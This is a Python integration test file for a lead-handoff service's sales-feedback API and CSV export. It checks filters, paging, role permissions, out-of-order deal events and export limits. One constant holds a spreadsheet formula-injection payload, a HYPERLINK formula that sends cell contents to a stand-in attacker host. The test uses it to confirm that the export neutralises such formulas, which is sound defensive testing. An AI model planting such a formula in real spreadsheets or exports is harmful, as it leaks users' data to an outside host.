"""Sales' feedback on marketing's leads (GET /v1/feedback, the CSV export) against a real
handoff: rejected, breached, won and lost leads with their reason, note, rep, form,
campaign and score; the filters, paging and who may read it; deals heard on the topic
in any order; a CSV a spreadsheet opens without running anything."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID, uuid4

from funnel_common.events import (
    DEALS_TOPIC,
    DealLost,
    DealOpened,
    DealWon,
    Envelope,
    encode_event,
)
from funnel_common.kafka import new_producer
from funnel_common.periods import period_of_instant, week_of_instant
from funnel_common.settings import CommonSettings
from funnel_common.types import utc_now
from tests.helpers import eventually
from tests.integration.handoff.support import (
    Handoffs,
    handoff_settings,
    running_handoffs,
)
from tests.integration.inbox.support import a_lead, apply

NOTE = '=HYPERLINK("http://evil.example/?"&A1, "open")'


def a_deal(kind: type[Envelope], lead_id: UUID, deal_id: str, amount: int, **more: Any) -> Envelope:
    at = more.pop("at", None)
    data = {
        "deal_id": deal_id,
        "lead_id": lead_id,
        "attribution": {"source": "webinar", "campaign": "q4-launch"},
        "amount_cents": amount,
        "currency": "USD",
        "stage": "proposal",
        **more,
    }
    return kind.new(source="lead-intake", subject=deal_id, data=data, time=at)


async def _lead(
    handoffs: Handoffs, name: str, *, campaign: str = "q4-launch", form_id: str = "landing-page",
    now: datetime | None = None,
) -> tuple[UUID, UUID]:  # fmt: skip
    captured, qualified = a_lead(name, f"{name} Corp", campaign=campaign, form_id=form_id)
    await apply(handoffs, captured)
    handoff_id = await handoffs.qualify_directly(qualified, now=now or utc_now())
    return captured.data.lead_id, handoff_id


async def _feedback(handoffs: Handoffs, headers: dict[str, str], **params: Any) -> Any:
    answer = await handoffs.client.get("/v1/feedback", params=params, headers=headers)
    assert answer.status_code == 200, answer.text
    return answer.json()


async def _scene(handoffs: Handoffs) -> dict[str, UUID]:
    """A rejection with a hostile note, a breach, a won and a lost deal, and two leads
    with nothing to say yet (one accepted without a deal, one still open)."""
    await handoffs.setup_team("emea", {"ada": {"capacity": 50}}, countries=["DE"])
    await handoffs.setup_team("amer", {"bob": {"capacity": 50}}, countries=["US"])
    ada = await handoffs.auth("rep", "ada")
    ids: dict[str, UUID] = {}

    _, ids["rejected"] = await _lead(handoffs, "Rita", campaign="+spring", form_id="pricing")
    answer = await handoffs.client.post(
        f"/v1/handoffs/{ids['rejected']}/reject",
        json={"reason": "no_budget", "note": NOTE},
        headers=ada,
    )
    assert answer.status_code == 200, answer.text

    # Past due an hour ago: the scanner (driven with the clock) breaches it.
    _, ids["breached"] = await _lead(handoffs, "Bea", now=utc_now() - timedelta(hours=2))
    assert (await handoffs.scan(utc_now())).breached == 1

    for name in ("won", "lost", "accepted"):
        lead_id, ids[name] = await _lead(handoffs, name.capitalize())
        ids[f"{name}_lead"] = lead_id
        answer = await handoffs.client.post(f"/v1/handoffs/{ids[name]}/accept", headers=ada)
        assert answer.status_code == 200, answer.text
    today = utc_now().date()
    # The CRM's deliveries, late and out of order: the close before the opening.
    await apply(
        handoffs,
        a_deal(DealWon, ids["won_lead"], "opp-w", 120_000, closed_on=str(today)),
        a_deal(DealOpened, ids["won_lead"], "opp-w", 100_000, at=utc_now() - timedelta(days=3)),
        a_deal(DealLost, ids["lost_lead"], "opp-l", 50_000, closed_on=str(today), reason="price"),
        a_deal(DealOpened, ids["accepted_lead"], "opp-o", 70_000),
    )
    _, ids["open"] = await _lead(handoffs, "Otto")
    return ids


async def test_a_marketer_reads_why_leads_came_back_and_what_became_of_them(
    handoffs: Handoffs,
) -> None:
    ids = await _scene(handoffs)
    marketing = await handoffs.auth("marketing", "mara")

    found = await _feedback(handoffs, marketing)

    by_id = {item["handoff_id"]: item for item in found["items"]}
    assert set(by_id) == {str(ids[name]) for name in ("rejected", "breached", "won", "lost")}
    rejected = by_id[str(ids["rejected"])]
    assert (rejected["outcome"], rejected["reason"], rejected["note"]) == (
        "rejected",
        "no_budget",
        NOTE,
    )
    assert (rejected["rep_id"], rejected["team_id"], rejected["form_id"]) == (
        "ada",
        "emea",
        "pricing",
    )
    assert (rejected["source"], rejected["campaign"]) == ("webinar", "+spring")
    assert (rejected["score"], rejected["score_reasons"]) == (
        80,
        [{"rule": "company_size", "points": 40}, {"rule": "title", "points": 40}],
    )
    assert rejected["company"] == "Rita Corp"
    breached = by_id[str(ids["breached"])]
    assert (breached["outcome"], breached["breaches"], breached["rep_id"]) == ("breached", 1, "ada")
    won = by_id[str(ids["won"])]
    assert won["outcome"] == "won"
    assert won["deal"] == {
        "outcome": "won",
        "value_cents": 120_000,
        "closed_on": str(utc_now().date()),
    }
    assert won["rep_id"] == "ada"
    assert by_id[str(ids["lost"])]["deal"]["outcome"] == "lost"
    assert found["currency"] == "USD"
    # Newest first: the order of `at`, whatever the kind.
    times = [item["at"] for item in found["items"]]
    assert times == sorted(times, reverse=True)


async def test_the_filters_and_pages_narrow_the_list(handoffs: Handoffs) -> None:
    ids = await _scene(handoffs)
    marketing = await handoffs.auth("marketing", "mara")
    now = utc_now()

    async def listed(**params: Any) -> set[str]:
        return {
            item["handoff_id"] for item in (await _feedback(handoffs, marketing, **params))["items"]
        }

    assert await listed(reason="no_budget") == {str(ids["rejected"])}
    assert await listed(campaign="+spring") == {str(ids["rejected"])}
    assert await listed(form="pricing") == {str(ids["rejected"])}
    assert await listed(outcome="won") == {str(ids["won"])}
    assert await listed(outcome="breached") == {str(ids["breached"])}
    assert await listed(source="ads") == set()
    assert await listed(team="amer") == set()
    assert len(await listed(period=str(period_of_instant(now, "UTC")))) == 4
    assert len(await listed(period=str(week_of_instant(now, "UTC")))) == 4
    assert await listed(period="2001-Q1") == set()

    first = await _feedback(handoffs, marketing, limit=3)
    second = await _feedback(handoffs, marketing, limit=3, page=2)
    assert (len(first["items"]), first["has_next"]) == (3, True)
    assert (len(second["items"]), second["has_next"]) == (1, False)

    for wrong in ({"period": "2026-Q5"}, {"period": "2026-W54"}, {"outcome": "maybe"},
                  {"reason": "dunno"}, {"colour": "red"}):  # fmt: skip
        answer = await handoffs.client.get("/v1/feedback", params=wrong, headers=marketing)
        assert answer.status_code == 422, (wrong, answer.text)
        assert answer.headers["content-type"] == "application/problem+json"
        assert [error["field"] for error in answer.json()["errors"]] == [
            f"query.{next(iter(wrong))}"
        ]


async def test_reps_may_not_read_feedback_and_a_manager_reads_their_teams(
    handoffs: Handoffs,
) -> None:
    ids = await _scene(handoffs)

    as_rep = await handoffs.client.get("/v1/feedback", headers=await handoffs.auth("rep", "ada"))
    emea = await _feedback(handoffs, await handoffs.auth("manager", "emea-manager", "emea"))
    amer = await _feedback(
        handoffs, await handoffs.auth("manager", "amer-manager", "amer"), team="emea"
    )

    assert as_rep.status_code == 403
    assert as_rep.headers["content-type"] == "application/problem+json"
    assert len(emea["items"]) == 4
    assert amer["items"] == []  # a manager's team is their own, whatever they ask
    assert str(ids["open"]) not in {item["handoff_id"] for item in emea["items"]}


async def test_the_csv_export_has_every_row_and_runs_nothing_in_a_spreadsheet(
    handoffs: Handoffs,
) -> None:
    ids = await _scene(handoffs)
    marketing = await handoffs.auth("marketing", "mara")

    answer = await handoffs.client.get("/v1/feedback.csv", headers=marketing)
    filtered = await handoffs.client.get(
        "/v1/feedback.csv", params={"outcome": "rejected"}, headers=marketing
    )

    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == "attachment; filename*=UTF-8''feedback.csv"
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert {row["handoff_id"] for row in rows} == {
        str(ids[name]) for name in ("rejected", "breached", "won", "lost")
    }
    [rejected] = [row for row in rows if row["handoff_id"] == str(ids["rejected"])]
    # Formula-looking text starts with a quote; the note is otherwise as the rep wrote it.
    assert rejected["note"] == "'" + NOTE
    assert rejected["campaign"] == "'+spring"
    assert rejected["score_reasons"] == "company_size +40, title +40"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    # Numbers stay numbers (unquoted), text is quoted.
    [won_line] = [line for line in answer.text.splitlines() if str(ids["won"]) in line]
    assert ",120000," in won_line
    assert '"won"' in won_line
    assert [row["handoff_id"] for row in csv.DictReader(io.StringIO(filtered.text))] == [
        str(ids["rejected"])
    ]


async def test_an_export_larger_than_allowed_is_refused_before_anything_is_sent(
    database_url: str, settings: CommonSettings
) -> None:
    small = handoff_settings(database_url, settings, feedback_export_max_rows=2)
    async with running_handoffs(small) as handoffs:
        await _scene(handoffs)
        marketing = await handoffs.auth("marketing", "mara")

        refused = await handoffs.client.get("/v1/feedback.csv", headers=marketing)
        narrowed = await handoffs.client.get(
            "/v1/feedback.csv", params={"outcome": "won"}, headers=marketing
        )

    assert refused.status_code == 422
    assert refused.json()["type"] == "/problems/export-too-large"
    assert (refused.json()["rows"], refused.json()["max_rows"]) == (4, 2)
    assert narrowed.status_code == 200
    assert len(narrowed.text.splitlines()) == 2


async def test_deal_outcomes_heard_on_the_topic_in_any_order_reach_the_feedback(
    database_url: str, topics: CommonSettings
) -> None:
    async with running_handoffs(handoff_settings(database_url, topics), worker=True) as handoffs:
        await handoffs.setup_team("emea", {"ada": {"capacity": 5}}, countries=["DE"])
        lead_id, handoff_id = await _lead(handoffs, "Wendy")
        accepted = await handoffs.client.post(
            f"/v1/handoffs/{handoff_id}/accept", headers=await handoffs.auth("rep", "ada")
        )
        assert accepted.status_code == 200
        deal = f"opp-{uuid4().hex[:8]}"
        closed = date(2026, 3, 31)
        noon = datetime(2026, 3, 31, 12, tzinfo=UTC)
        events = [
            a_deal(DealWon, lead_id, deal, 9_000, closed_on=str(closed), at=noon),
            a_deal(
                DealLost,
                lead_id,
                deal,
                9_000,
                closed_on="2026-03-01",
                reason="x",
                at=noon - timedelta(days=30),
            ),
            a_deal(DealOpened, lead_id, deal, 8_000, at=noon - timedelta(days=60)),
        ]
        producer = new_producer(topics)
        await producer.start()
        try:
            for event in [*events, events[0]]:  # the won one twice
                await producer.send_and_wait(
                    topics.topic(DEALS_TOPIC), encode_event(event), key=event.key
                )
        finally:
            await producer.stop()
        marketing = await handoffs.auth("marketing", "mara")

        found = await eventually(
            lambda: _feedback(handoffs, marketing, outcome="won"),
            until=lambda found: bool(found["items"]),
            what="the won deal in the feedback",
        )

    [item] = found["items"]
    assert item["handoff_id"] == str(handoff_id)
    assert item["deal"] == {"outcome": "won", "value_cents": 9_000, "closed_on": "2026-03-31"}
    assert item["at"] == "2026-03-31T00:00:00Z"
